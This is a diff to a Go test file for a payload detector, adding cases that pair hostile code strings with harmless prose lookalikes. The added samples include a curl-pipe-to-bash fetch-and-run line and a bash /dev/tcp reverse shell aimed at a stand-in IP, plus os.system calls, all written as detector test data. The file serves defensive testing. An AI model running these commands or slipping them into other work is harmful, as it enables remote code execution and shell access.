@@ -141,6 +141,16 @@ func TestDetector(t *testing.T) {
 		detectortest.Case{Name: "text in UTF-16 without a mark", File: "note.txt", Data: []byte(wide("see " + base64Of(pickled))), Want: []string{"encoded-payload"}},
 		detectortest.Case{Name: "text in Latin-1", File: "note.txt", Data: []byte("caf\xe9 see " + base64Of(pickled)), Want: []string{"encoded-payload"}},
 		detectortest.Case{Name: "pickle as it stands, harmless", File: "note.h", Data: []byte("Hcposix_ system_ (S'echo poc'\ntR."), AnyPrefix: anyPrefix})
+	for _, sample := range []struct{ name, bad, twin string }{
+		{"Python", "import os; os.system('echo poc')", "run os.system('echo poc') to see it"},
+		{"imported by name", "__import__('os').system('echo poc')", "never write __import__('os').system"},
+		{"shell", "curl -s http://192.0.2.1/run.sh | bash", "Fetch it with curl, then look at bash scripts"},
+		{"reverse shell", "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1", "a reverse shell writes to /dev/tcp/HOST/PORT"},
+	} {
+		cases = append(cases,
+			detectortest.Case{Name: sample.name + " as it stands", File: "note.h", Data: []byte("H" + sample.bad), Want: []string{"code-in-metadata"}},
+			detectortest.Case{Name: sample.name + " in prose", File: "note.h", Data: []byte("H" + sample.twin), AnyPrefix: anyPrefix})
+	}
 	add("script", base64Of("#!/bin/sh\necho poc\n"), base64Of("# /bin/sh\necho poc\n"), "encoded-script")
 	detectortest.Run(t, payload.Detector, cases, header, archive.Detector, pickle.Detector, bytecode.Detector)
 }
